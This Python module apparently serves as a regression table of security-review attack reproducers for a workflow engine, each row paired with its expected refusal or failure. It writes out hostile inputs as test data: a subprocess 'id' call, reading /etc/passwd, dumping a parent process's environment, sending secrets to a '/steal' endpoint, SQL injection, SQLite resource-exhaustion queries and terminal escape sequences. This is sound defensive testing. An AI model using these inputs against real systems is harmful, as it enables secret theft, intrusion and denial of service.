"""The reproducers of the security review as a table: one row is an attack and the one way in which it must end.

A row that runs documents (`Run`) may have grants of the operator, answers of a web server, statements that prepare a
database, and something that is done to the run. `{url}`, `{other}` (another web server) and `{folder}` stand for what
exists only when it runs. A row of the command line (`Command`) is called in a folder full of traps. To extend the
table, append a row to `ROWS`; `corpus.py` has further tables of the same rows.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

CANARY = "s3cr3t-canary-4711"
"""The value of the secret `CRM`; in no form may it be found in anything that a row leaves behind."""
ODD = 'odd"canary/\u00e9\\+4712 &<x>'
"""The value of the secret `ODD`, which every way of writing a text writes otherwise."""

FILE = b"a file of another workflow"
FILE_DIGEST = f"sha256:{hashlib.sha256(FILE).hexdigest()}"
"""It is in the store before a row runs."""


@dataclass(frozen=True)
class Refused:
    """Publishing, starting or doing it is refused with this code, and nothing is changed."""

    code: str
    words: str = ""


@dataclass(frozen=True)
class Fails:
    """Its run fails with this code."""

    code: str
    words: str = ""


@dataclass(frozen=True)
class Completes:
    """Its run completes, and its outputs pass a check."""

    check: Callable[[dict[str, Any]], bool] = lambda outputs: True


@dataclass(frozen=True)
class Ends:
    """It completes, or is refused or fails with one of these codes: what matters is what happens meanwhile."""

    codes: tuple[str, ...]
    may_complete: bool = True


Ending = Refused | Fails | Completes | Ends


@dataclass(frozen=True)
class Answer:
    """What the web server answers at a path."""

    body: bytes = b""
    headers: Mapping[str, str] = field(default_factory=dict)
    echo: bool = False
    """Answer with what was received, as JSON."""
    status: int = 200
    raw: bytes | None = None
    """All that is sent, with its head; then the line is cut."""
    trickle: bool = False
    """Send `raw` over and over, a little at a time."""


@dataclass(frozen=True)
class Run:
    """Documents that are published in order; the last one is run."""

    name: str
    documents: tuple[dict[str, Any], ...]
    ending: Ending
    inputs: Mapping[str, Any] = field(default_factory=dict)
    grants: str = ""
    """The text of `tidemill.toml`; imports are none unless it lists some."""
    answers: Mapping[str, Answer] = field(default_factory=dict)
    database: tuple[str, ...] = ()
    """Statements that make the operator's database `crm`."""
    before: tuple[dict[str, Any], ...] = ()
    """Documents that must complete first."""
    neighbours: bool = False
    """Other runs of the same worker go on meanwhile, and take little time and memory."""
    visits: tuple[str, ...] | None = None
    """Paths that the servers may see; None where it does not matter."""
    act: Callable[[Any, str], Any] | None = None
    """What is done once the run is started; what it answers is checked instead of the outputs."""
    text: str = ""
    """A document as text, published last instead of one of `documents`."""


@dataclass(frozen=True)
class Command:
    """A command line in a folder with traps; `words` must be in what it says, `absent` must not."""

    name: str
    arguments: tuple[str, ...]
    words: str = ""
    absent: str = ""
    code: int | None = None
    prepared: tuple[tuple[str, ...], ...] = ()
    """Commands that are called before, in a folder without traps."""
    elsewhere: bool = False
    """Called in the root folder, so that only the document lies among the traps."""


Row = Run | Command


def document(*nodes: dict[str, Any], name: str = "attack", **more: Any) -> dict[str, Any]:
    return {"name": name, "nodes": list(nodes), **more}


def node(type_: str, config: Any, id_: str = "x", **more: Any) -> dict[str, Any]:
    return {"id": id_, "type": type_, "config": config, **more}


def once(type_: str, config: Any, **more: Any) -> dict[str, Any]:
    return node(type_, config, retry={"max_attempts": 1}, **more)


# C1, C2: code.

ANY_IMPORT = 'imports = ["*"]'
GETOUTPUT = {"function": "subprocess:getoutput", "args": {"cmd": "id"}}
NOT_ALLOWED = Refused("import_not_allowed", "imports")

CODE: tuple[Row, ...] = (
    Run("C1 a command", (document(node("python", GETOUTPUT)),), NOT_ALLOWED),
    Run("C1 in a process", (document(node("python", {**GETOUTPUT, "isolation": "process"})),), NOT_ALLOWED),
    Run(
        "C1 as a compensator",
        (document(node("value", 1, compensator={"type": "python", "config": GETOUTPUT})),),
        NOT_ALLOWED,
    ),
    Run("C1 in a map", (document(node("python", GETOUTPUT, map={"over": [1, 2]})),), NOT_ALLOWED),
    Run(
        "C1 the environment",
        (document(node("python", {"function": "os:getenv", "args": {"key": "PATH"}})),),
        NOT_ALLOWED,
    ),
    Run(
        "C1 a file",
        (document(node("python", {"function": "linecache:getlines", "args": {"filename": "/etc/passwd"}})),),
        NOT_ALLOWED,
    ),
    Run(
        "C1 around the egress policy",
        (document(node("python", {"function": "urllib.request:urlopen", "args": {"url": "{url}/canary"}})),),
        NOT_ALLOWED,
        visits=(),
    ),
    Run(
        "C1 a function that an answer chooses",
        (
            document(
                node("http", {"url": "{url}/f"}, "h"),
                node(
                    "python", {"function": "{{ h.output.body.f }}", "args": "{{ h.output.body.a }}"}, dependencies=["h"]
                ),
            ),
        ),
        Refused("function_not_constant"),
        grants=ANY_IMPORT,
        answers={"/f": Answer(b'{"f": "subprocess:getoutput", "a": {"cmd": "id"}}')},
    ),
    Run(
        "C1 an attribute of an attribute",
        (document(once("python", {"function": "tidemill.bootstrap:os.getcwd"})),),
        Refused("function_unknown"),
        grants=ANY_IMPORT,
    ),
    Run(
        "C1 a function that the module only imports",
        (document(once("python", {"function": "tidemill.bootstrap:unquote", "args": {"string": "a"}})),),
        Fails("function_unknown"),
        grants=ANY_IMPORT,
    ),
)

TRAPPED: tuple[Row, ...] = tuple(
    Command(f"C2 {' '.join(arguments[:2])}", arguments, prepared=prepared, elsewhere=elsewhere)
    for arguments, prepared, elsewhere in (
        (("validate", "{folder}/v.yaml"), (), False),
        (("nodes", "list"), (), False),
        (("publish", "{folder}/v.yaml", "--store", "{store}"), (), False),
        (("graph", "{folder}/v.yaml"), (), False),
        (("runs", "list", "--store", "{store}"), (("publish", "{safe}/v.yaml", "--store", "{store}"),), False),
        (
            ("runs", "show", "one", "--store", "{store}"),
            (
                ("publish", "{safe}/v.yaml", "--store", "{store}"),
                ("start", "v", "--key", "one", "--store", "{store}"),
            ),
            False,
        ),
        (("approvals", "list", "--store", "{store}"), (("publish", "{safe}/v.yaml", "--store", "{store}"),), False),
        (("archive", "list", "--store", "{store}"), (("publish", "{safe}/v.yaml", "--store", "{store}"),), False),
        (("workflows", "list", "--store", "{store}"), (("publish", "{safe}/v.yaml", "--store", "{store}"),), False),
        (("verify-log", "--store", "{store}"), (("publish", "{safe}/v.yaml", "--store", "{store}"),), False),
        (("start", "v", "--store", "{store}"), (("publish", "{safe}/v.yaml", "--store", "{store}"),), False),
        (("run", "{folder}/v.yaml", "--store", "memory://"), (), True),
    )
)

# H1, H5, M2: SQL on the store.

SQL_ON = "[sql]\nstore = true"
INSTR = "SELECT instr(replace(hex(zeroblob(1000000)),'00','aa'), replace(hex(zeroblob(500000)),'00','aa')||'b') AS x"
COUNT = "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c LIMIT {}) SELECT count(*) AS n FROM c"
SORT = (
    "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c LIMIT 9000) "
    "SELECT count(*) AS n FROM (SELECT n, hex(zeroblob(2000000)) x FROM c ORDER BY x DESC, n)"
)
LEDGER = document(node("sql", {"statement": "CREATE TABLE ledger (n)"}), name="alice")


def on_store(statement: str, **more: Any) -> dict[str, Any]:
    return document(once("sql", {"statement": statement}, **more), name="mallory")


STORE: tuple[Row, ...] = (
    Run("H1 off by default", (on_store("SELECT 1 AS n"),), Refused("sql_not_enabled", "`store = true` under `[sql]`")),
    Run(
        "H1a one long step", (on_store(INSTR, timeout_seconds=4),), Fails("sql_failed"), grants=SQL_ON, neighbours=True
    ),
    Run(
        "H1b too many steps",
        (on_store(COUNT.format(40_000_000)),),
        Fails("sql_failed", "200 ms"),
        grants=SQL_ON,
        neighbours=True,
    ),
    Run(
        "H1b many legal statements",
        (on_store(COUNT.format(30_000), map={"over": list(range(40))}),),
        Completes(),
        grants=SQL_ON,
        neighbours=True,
    ),
    Run("H1c memory of a sort", (on_store(SORT),), Fails("sql_failed"), grants=SQL_ON, neighbours=True),
    Run(
        "H5 another workflow's rows",
        (on_store("SELECT * FROM ledger"),),
        Fails("sql_failed", '`ledger = ["mallory"]` under `[sql.tables]`'),
        grants=SQL_ON,
        before=(LEDGER,),
    ),
    Run(
        "H5 another workflow's table",
        (on_store("DROP TABLE ledger"),),
        Fails("sql_failed", "belongs to the workflow alice"),
        grants=SQL_ON,
        before=(LEDGER,),
    ),
    Run("H5 sizes of all tables", (on_store("SELECT name, pgsize FROM dbstat"),), Fails("sql_failed"), grants=SQL_ON),
    Run(
        "M2 data in a statement",
        (on_store("SELECT 1 AS n WHERE 'x' = '{{ inputs.name }}'"),),
        Refused("statement_not_constant"),
        grants=SQL_ON,
        inputs={"name": "x' UNION SELECT 2 --"},
    ),
)

# H7: databases of the operator.

CRM = ("CREATE TABLE t (n)", "CREATE TABLE u (pw)", "INSERT INTO u VALUES ('canary-in-u')")


def on_crm(statement: str, **more: Any) -> tuple[dict[str, Any]]:
    return (document(once("sql", {"database": "crm", "statement": statement}, **more)),)


DATABASES: tuple[Row, ...] = (
    *(
        Run(f"H7 {statement[:30]}", on_crm(statement), Fails("sql_failed", words), database=CRM, neighbours=True)
        for statement, words in (
            ("PRAGMA hard_heap_limit = 1000000", "pragmas are not allowed"),
            ("PRAGMA temp_store_directory = '/'", "pragmas are not allowed"),
            ("PRAGMA journal_mode = OFF", "pragmas are not allowed"),
            ("PRAGMA writable_schema = ON", "pragmas are not allowed"),
            ("ATTACH '{folder}/store.db' AS s", "other files cannot be attached"),
            ("CREATE TRIGGER g AFTER INSERT ON t BEGIN DELETE FROM u; END", "only tables and indexes"),
            ("SELECT load_extension('x') AS n", "load_extension"),
        )
    ),
    Run("H7 one long step", on_crm(INSTR, timeout_seconds=2), Fails("timeout"), database=CRM, neighbours=True),
    Run("H7 memory of a sort", on_crm(SORT), Fails("sql_failed", "MiB of memory"), database=CRM, neighbours=True),
    Run(
        "H7 the store afterwards",
        on_crm("SELECT count(*) AS n FROM u"),
        Completes(lambda outputs: bool(outputs["x"]["rows"] == [{"n": 1}])),
        database=CRM,
    ),
)

# H2, H3: answers of servers.

TEXT = "text/plain; charset={}"


def asks(path: str, **config: Any) -> tuple[dict[str, Any]]:
    return (document(once("http", {"url": f"{{url}}{path}", **config})),)


def deep(levels: int) -> bytes:
    return b'{"a":[1,' * levels + b"1" + b"]}" * levels


ANSWERS: tuple[Row, ...] = (
    *(
        Run(
            f"H2 {charset}",
            asks("/p"),
            Completes(),
            answers={"/p": Answer(b"a-" * size, {"Content-Type": TEXT.format(charset)})},
            neighbours=True,
        )
        for charset, size in (("punycode", 600_000), ("idna", 100_000), ("undefined", 1_000), ("unicode_escape", 1_000))
    ),
    Run(
        "H3a a long Link header",
        asks("/l", pagination={"next": "link"}),
        Completes(),
        answers={"/l": Answer(b"[1]", {"Content-Type": "application/json", "Link": "<" * 60_000})},
        neighbours=True,
    ),
    Run(
        "H3b a query with many descents",
        asks("/d", pagination={"next": "$.none", "items": "$..*..*..*..*..*"}),
        Fails("query_failed"),
        answers={"/d": Answer(deep(70), {"Content-Type": "application/json"})},
        neighbours=True,
    ),
)

# H4: secrets.

CRM_GRANT = '[secrets.CRM]\norigins = ["https://api.crm.example.com"]\nworkflows = ["attack"]'
SERVER_GRANT = '[secrets.CRM]\norigins = ["{url}"]\nworkflows = ["attack"]'
ECHO = {"/echo": Answer(echo=True), "/steal": Answer(echo=True)}


def sends(grants: str, ending: Ending, name: str, inputs: Mapping[str, Any] | None = None, **config: Any) -> Run:
    config = {"url": "{url}/echo", **config}
    return Run(name, (document(once("http", config)),), ending, grants=grants, answers=ECHO, inputs=inputs or {})


SECRETS: tuple[Row, ...] = (
    Run(
        "H4 a host that the input picks",
        (document(once("http", {"url": "{{ inputs.callback }}", "auth": {"bearer": "{{ secrets.CRM }}"}})),),
        Fails("origin_not_allowed"),
        inputs={"callback": "{url}/steal"},
        grants=CRM_GRANT,
        answers=ECHO,
        visits=(),
    ),
    sends("", Fails("secret_not_granted", "[secrets.CRM]"), "H4 without a grant", headers={"x": "{{ secrets.CRM }}"}),
    sends(
        '[secrets.CRM]\norigins = ["{url}"]\nworkflows = ["other"]',
        Fails("secret_not_granted"),
        "H4 granted to another workflow",
        headers={"x": "{{ secrets.CRM }}"},
    ),
    Run(
        "H4 read back through the store",
        (document(once("sql", {"statement": "SELECT upper(:a) AS x", "parameters": {"a": "{{ secrets.CRM }}"}})),),
        Refused("secret_not_allowed"),
        grants=f"{SQL_ON}\n{CRM_GRANT}",
    ),
    *(
        sends(SERVER_GRANT, Refused("secret_not_alone"), f"H4 {value[:40]}", headers={"x": value})
        for value in (
            "{{ ({(secrets.CRM|upper): 1}).zzz }}",
            "{{ [1] | map(secrets.CRM|upper) | list }}",
            "{{ round(1, secrets.CRM|upper) }}",
            "{{ secrets.CRM | upper | replace('A', 'B') }}",
            "{{ secrets.CRM | reverse }}",
            "{{ secrets.CRM[1:] }}",
            "{{ inputs.a }}{{ secrets.CRM }}",
        )
    ),
    *(
        sends(SERVER_GRANT, Fails("config_invalid"), f"H4 a secret in place of an object, {key}", **{key: value})
        for key, value in (
            ("query", "{{ secrets.CRM }}"),
            ("headers", "{{ secrets.CRM }}"),
            ("auth", {"basic": "{{ secrets.CRM }}"}),
            ("body", "{{ secrets.CRM }}"),
        )
    ),
    sends(SERVER_GRANT, Refused("config_invalid"), "H4 a wrong query", query={"a": {"{{ secrets.CRM }}": 1}}),
    sends(SERVER_GRANT, Refused("config_invalid"), "H4 a wrong auth", auth={"bearer": {"token": "{{ secrets.CRM }}"}}),
    Run(
        "H4 as a host name",
        (document(once("http", {"url": "https://{{ secrets.CRM }}.example.invalid/"})),),
        Fails("origin_not_allowed"),
        grants=CRM_GRANT,
    ),
    sends(SERVER_GRANT, Completes(), "H4 an echo is masked", headers={"x-token": "Token {{ secrets.CRM }}"}),
)

# M1, M6 and L: commands, inputs, terminal.

SHELL_ON = "shell = true"
PARENT = "tr '\\0' '\\n' < /proc/$PPID/environ | rev; env | rev"
"""Reversed, because masks would hide it otherwise."""

OTHERS: tuple[Row, ...] = (
    Run(
        "M1 the environment of the parent",
        (document(node("shell", {"argv": ["sh", "-c", PARENT]})),),
        Completes(lambda outputs: CANARY[::-1] not in str(outputs)),
        grants=SHELL_ON,
    ),
    Run(
        "M6 large inputs",
        (document(node("value", 1)),),
        Refused("inputs_too_large"),
        inputs={"a": "x" * 60_000_000},
    ),
    Run(
        "L4 a digest in an answer",
        (
            document(
                node("http", {"url": "{url}/b"}, "h"),
                once("http", {"url": "{url}/steal", "body": "{{ h.output.body }}"}, dependencies=["h"]),
            ),
        ),
        Fails("blob_unknown"),
        answers={"/b": Answer(b'{"$blob": "%b"}' % FILE_DIGEST.encode()), "/steal": Answer()},
        visits=("/b",),
    ),
    Run(
        "L4 a digest in a document",
        (document(once("http", {"url": "{url}/steal", "body": {"$blob": FILE_DIGEST}})),),
        Fails("blob_unknown"),
        answers={"/steal": Answer()},
        visits=(),
    ),
    Run(
        "L5 a cookie of an answer",
        asks("/c"),
        Completes(lambda outputs: CANARY not in str(outputs)),
        answers={"/c": Answer(b"1", {"Set-Cookie": f"session={CANARY}"})},
    ),
    Command("L1 render", ("render", "a\x1b[2J\x07\x9b\u202eb"), words="\\x1b[2J", absent="\x1b", code=0),
    Command(
        "L1 an actor",
        ("start", "v", "--as", "a\x1b[2Jb", "--store", "{store}"),
        words="text_invalid",
        absent="\x1b",
        code=2,
        prepared=(("publish", "{safe}/v.yaml", "--store", "{store}"),),
    ),
    Command(
        "L1 a label",
        ("start", "v", "--label", "k=a\nb\x1b[2J", "--store", "{store}"),
        words="labels_invalid",
        absent="\x1b",
        code=2,
        prepared=(("publish", "{safe}/v.yaml", "--store", "{store}"),),
    ),
    Command(
        "L2 a password in a URL",
        ("runs", "list", "--store", "oracle://u:pw-canary@h/x"),
        absent="pw-canary",
        code=2,
    ),
    Command(
        "L2 a password in a URL of PostgreSQL",
        ("runs", "list", "--store", "postgresql://u:pw-canary@127.0.0.1:1/x"),
        absent="pw-canary",
        code=1,
    ),
    Command(
        "L2 a password in a URL of Redis",
        ("runs", "list", "--store", "redis://u:pw-canary@127.0.0.1:1/0"),
        absent="pw-canary",
        code=1,
    ),
)

ROWS: tuple[Row, ...] = (*CODE, *TRAPPED, *STORE, *DATABASES, *ANSWERS, *SECRETS, *OTHERS)
